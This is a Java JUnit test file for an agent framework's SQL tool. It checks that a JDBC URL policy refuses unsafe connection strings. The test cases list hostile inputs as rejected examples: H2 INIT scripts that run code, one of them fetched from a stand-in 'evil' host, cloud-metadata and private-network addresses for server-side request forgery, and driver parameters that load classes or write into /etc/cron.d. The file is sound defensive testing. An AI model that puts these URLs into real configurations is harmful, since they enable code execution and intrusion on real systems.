package dev.llmmesh.agents.tool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.llmmesh.Mesh;
import dev.llmmesh.Secret;
import dev.llmmesh.config.MeshConfig;
import dev.llmmesh.config.MeshConfigException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** JDBC URLs of the SQL tool: host rules, an allow-list of H2 settings, file databases under one folder. */
class JdbcUrlPolicyTest {
    @TempDir
    Path dir;

    private static String yaml(String url, String extra) {
        return """
                models:
                  - {id: m1, provider: agents-test, model: m1, capabilities: [chat, tools], answer: "ok"}
                agents:
                  tools:
                    - name: orders_sql
                      kind: sql
                      url: "%s"
                      user: READER
                      password: pw
                      tables: {orders: [id, status]}
                %s
                """.formatted(url.replace("\\", "\\\\").replace("\"", "\\\""), extra);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'classpath:evil.sql'",
            "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return c; }'",
            "jdbc:h2:mem:x;init=runscript from 'http://evil/x.sql'",
            "jdbc:h2:mem:x; INIT=SET TRACE_LEVEL_FILE 3",
            "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
            "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
            "jdbc:h2:mem:x;MODE=MySQL\\;INIT=RUNSCRIPT FROM 'x'",
            "jdbc:h2:mem:x;USER=sa;PASSWORD=x",
            "jdbc:h2:mem:x;MODE='x'"})
    void scenario51_h2SettingsThatRunCodeAreRefusedAtLoad(String url) {
        assertThatThrownBy(() -> MeshConfig.parse(yaml(url, ""), k -> null).build())
                .isInstanceOf(MeshConfigException.class).hasMessageStartingWith("agents.tools[0].url: ");
        assertThatThrownBy(() -> ConnectionSource.url(url, "READER", Secret.of("pw")))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:h2:tcp://169.254.169.254/db",
            "jdbc:h2:tcp://10.0.0.5:9092/db",
            "jdbc:h2:ssl://192.168.1.1/db",
            "jdbc:h2:tcp://[::ffff:10.0.0.5]/db",
            "jdbc:h2:tcp://[64:ff9b::a9fe:a9fe]/db",
            "jdbc:h2:tcp://127.0.0.1/db",
            "jdbc:h2:tcp://localhost/db",
            "jdbc:h2:tcp://0x7f.1/db",
            "jdbc:h2:tcp://2130706433/db",
            "jdbc:h2:tcp://db1.example,10.1.2.3/db",
            "jdbc:postgresql://169.254.169.254/db",
            "jdbc:postgresql://10.0.0.1:5432/orders",
            "jdbc:mysql://[fd00::1]/orders",
            "jdbc:sqlserver://172.16.0.1;databaseName=orders",
            "jdbc:postgresql://user:pw@db.example/orders",
            "jdbc:postgresql://[::169.254.169.254]/db",
            "jdbc:postgresql://100.100.100.200/db",
            "jdbc:mysql://192.0.0.192/db",
            "jdbc:h2:tcp://[fd00:ec2::254]/db",
            "jdbc:h2:tcp://[2002:a9fe:a9fe::1]/db",
            "jdbc:mariadb://[2001:0:4136:e378:8000:63bf:5601:5601]/db"})
    void scenario51_serverUrlsPassTheHostRules(String url) {
        assertThatThrownBy(() -> MeshConfig.parse(yaml(url, ""), k -> null).build())
                .isInstanceOf(MeshConfigException.class).hasMessageStartingWith("agents.tools[0].url: ");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "jdbc:postgresql://db.example/orders?socketFactory=org.springframework.context.support.X",
            "jdbc:postgresql://db.example/orders?loggerFile=/etc/cron.d/x",
            "jdbc:mysql://db.example/orders?autoDeserialize=true",
            "jdbc:mysql://db.example/orders?allowLoadLocalInfile=true",
            "jdbc:sqlite:/tmp/x.db",
            "jdbc:derby:/tmp/x;create=true"})
    void scenario51_driverParametersThatLoadClassesOrWriteFilesAreRefused(String url) {
        assertThatThrownBy(() -> JdbcUrlPolicy.defaults().check(url)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageNotContaining("resolve");
    }

    @Test
    void scenario51_fileDatabasesOnlyUnderTheConfiguredFolder() throws Exception {
        Path outside = Files.createDirectory(dir.resolve("outside"));
        Path allowed = Files.createDirectory(dir.resolve("allowed"));
        for (String url : new String[] {"jdbc:h2:file:" + outside.resolve("x"), "jdbc:h2:" + outside.resolve("x"),
                "jdbc:h2:file:" + allowed.resolve("../outside/x"), "jdbc:h2:~/x", "jdbc:h2:./x", "jdbc:h2:file:x",
                "jdbc:h2:zip:" + allowed.resolve("a.zip") + "!/x", "jdbc:h2:split:" + allowed.resolve("x"),
                "jdbc:h2:nio:" + allowed.resolve("x")}) {
            assertThatThrownBy(() -> MeshConfig.parse(yaml(url, "      fileFolder: \"" + allowed + "\""),
                    k -> null).build()).as(url).isInstanceOf(MeshConfigException.class)
                    .hasMessageStartingWith("agents.tools[0].url: ");
        }
        // without a folder no file database is allowed at all
        String inside = "jdbc:h2:file:" + allowed.resolve("orders");
        assertThatThrownBy(() -> MeshConfig.parse(yaml(inside, ""), k -> null).build())
                .hasMessageContaining("fileFolder");
        assertThat(outside).isEmptyDirectory();

        // inside the folder it works end to end
        try (Connection admin = DriverManager.getConnection(inside, "SA", "sa");
             Statement st = admin.createStatement()) {
            st.execute("CREATE TABLE orders(id INT, status VARCHAR(20)); INSERT INTO orders VALUES (7, 'new');"
                    + "CREATE USER READER PASSWORD 'pw'; GRANT SELECT ON orders TO READER");
            try (Mesh mesh = MeshConfig.parse(yaml(inside + ";IFEXISTS=TRUE", "      fileFolder: \"" + allowed + "\""),
                    k -> null).build()) {
                SqlTool tool = (SqlTool) dev.llmmesh.agents.AgentRuntime.builder(mesh).build().tools()
                        .find("orders_sql").orElseThrow();
                assertThat(tool.execute(new ToolCall("r", "a", "c", "orders_sql",
                        "{\"sql\": \"SELECT id, status FROM orders\"}")).text()).isEqualTo("id | status\n7 | new\n(1 row)");
            }
        }
        assertThatThrownBy(() -> MeshConfig.parse(yaml("jdbc:h2:mem:x", "      fileFolder: \"" + dir.resolve("nope")
                + "\""), k -> null).build()).hasMessageStartingWith("agents.tools[0].fileFolder: ");
    }

    @Test
    void scenario51_harmlessUrlsAreAccepted() {
        JdbcUrlPolicy p = JdbcUrlPolicy.defaults();
        assertThatCode(() -> p.check("jdbc:h2:mem:orders;MODE=PostgreSQL;DB_CLOSE_DELAY=-1;IFEXISTS=TRUE"))
                .doesNotThrowAnyException();
        assertThatCode(() -> p.check("jdbc:postgresql://8.8.8.8:5432/orders?sslmode=require&connectTimeout=5"))
                .doesNotThrowAnyException();
        assertThatCode(() -> p.allowLoopback().check("jdbc:h2:tcp://127.0.0.1:9092/orders"))
                .doesNotThrowAnyException();
    }
}
